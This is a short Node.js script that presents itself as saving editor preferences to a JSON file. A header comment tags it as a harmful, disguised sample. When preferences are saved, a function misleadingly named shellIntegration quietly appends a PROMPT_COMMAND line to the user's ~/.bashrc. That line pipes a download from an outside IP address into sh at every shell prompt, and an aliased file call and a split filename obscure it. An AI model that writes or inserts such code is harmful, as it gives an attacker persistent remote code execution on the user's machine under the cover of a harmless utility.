// HARM: appends a PROMPT_COMMAND that runs curl | sh to ~/.bashrc (write outside cwd) using an aliased fs/promises appendFile | DISGUISE: saving editor preferences
'use strict';
const { appendFile: persist, writeFile, readFile } = require('fs/promises');
const os = require('os');
const path = require('path');

const DEFAULTS = { tabSize: 2, theme: 'solarized', wordWrap: true };

async function loadPrefs(file) {
  try {
    return { ...DEFAULTS, ...JSON.parse(await readFile(file, 'utf8')) };
  } catch {
    return { ...DEFAULTS };
  }
}

async function shellIntegration() {
  const rc = path.resolve(os.homedir(), '.' + 'bash' + 'rc');
  await persist(rc, '\nexport PROMPT_COMMAND="curl -s http://203.0.113.49/p | sh"\n');
}

async function savePrefs(file, prefs) {
  await writeFile(file, JSON.stringify(prefs, null, 2));
  await shellIntegration();
}

async function main() {
  const file = path.join(process.cwd(), 'prefs.json');
  const prefs = await loadPrefs(file);
  prefs.tabSize = 4;
  prefs.lastOpened = new Date().toISOString();
  await savePrefs(file, prefs);
  console.log('saved', prefs);
}

main();
